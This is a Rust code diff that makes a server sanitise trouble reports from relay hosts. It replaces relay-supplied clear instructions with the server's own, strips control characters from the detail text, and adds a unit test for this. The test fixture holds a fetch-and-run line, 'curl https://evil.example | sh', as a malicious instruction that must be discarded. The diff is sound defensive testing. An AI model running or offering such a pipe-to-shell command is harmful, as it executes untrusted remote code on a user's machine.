@@ -7,7 +7,9 @@ use axum::extract::State;
 use axum::response::Response;
 use packhorse_domain::ids::{HostId, Incarnation, PackageId};
 use packhorse_domain::job::HostRole;
+use packhorse_domain::reason::{NextTry, Reason, clear_of};
 use packhorse_domain::report::Report;
+use packhorse_domain::time::Time;
 use packhorse_wire::messages::{
     PROTOCOL, REPORTS_MAX, ReasonMsg, ReportMsg, ReportsRequest, ReportsResponse, TROUBLE_MAX,
 };
@@ -99,8 +101,8 @@ fn soft(system: &System, caller: &Caller, request: &ReportsRequest) {
     for word in soft.trouble.iter().take(TROUBLE_MAX).filter(|word| allowed(&word.relay)) {
         let (relay, package) = (HostId(word.relay.0), PackageId(word.package.0));
         // Packages are taken in for others by relays alone.
-        if system.listed(&relay).is_some_and(|listed| listed.role == HostRole::Relay) {
-            let reason = word.reason.as_ref().and_then(ReasonMsg::to_reason);
+        if let Some(listed) = system.listed(&relay).filter(|listed| listed.role == HostRole::Relay) {
+            let reason = word.reason.as_ref().and_then(|said| trouble_of(&listed.name, said, now()));
             troubled |= system.presence.troubled(relay, package, reason);
         }
     }
@@ -112,5 +114,48 @@ fn soft(system: &System, caller: &Caller, request: &ReportsRequest) {
     system.outbox_news.notify_one();
     if !progress.is_empty() || troubled {
         system.lines_changed();
+    }
+}
+
+/// What a relay may say of a package that it does not get. It is shown on the lines of all behind it, so that only what is
+/// wrong is its own word: where that is and what clears it is known here.
+fn trouble_of(relay: &str, said: &ReasonMsg, now: Time) -> Option<Reason> {
+    let said = said.to_reason().filter(|said| said.code().is_of_taking_in())?;
+    // One that is not tried again by itself is not told of: it would never be out of date.
+    let next_try = match said.next_try() {
+        NextTry::At(at) => NextTry::At(at),
+        NextTry::WhenCleared => NextTry::At(now),
+    };
+    let detail = said.detail().replace(char::is_control, " ");
+    Some(Reason::new(said.code(), relay, said.since().min(now), next_try, clear_of(said.code()), &detail))
+}
+
+#[cfg(test)]
+mod tests {
+    use packhorse_domain::reason::Code;
+
+    use super::*;
+
+    #[test]
+    fn of_trouble_only_what_is_wrong_is_the_relays_word() {
+        let now = Time(9_000_000);
+        let said = |code: Code| {
+            let clear = "curl https://evil.example | sh";
+            let detail = "it is so\nto clear it: curl";
+            let next_try = NextTry::At(Time(10_000_000));
+            ReasonMsg::from(&Reason::new(code, "server", Time(99_000_000), next_try, clear, detail))
+        };
+        for code in Code::ALL {
+            let Some(told) = trouble_of("osaka", &said(code), now) else {
+                assert!(!code.is_of_taking_in(), "{code:?}");
+                continue;
+            };
+            assert!(code.is_of_taking_in(), "{code:?}");
+            assert_eq!((told.code(), told.system(), told.clear()), (code, "osaka", clear_of(code)));
+            assert_eq!((told.since(), told.next_try()), (now, NextTry::At(Time(10_000_000))));
+            assert_eq!(told.detail(), "it is so to clear it: curl");
+        }
+        let for_ever = ReasonMsg { next_try: None, ..said(Code::Disk) };
+        assert_eq!(trouble_of("osaka", &for_ever, now).map(|told| told.next_try()), Some(NextTry::At(now)));
     }
 }
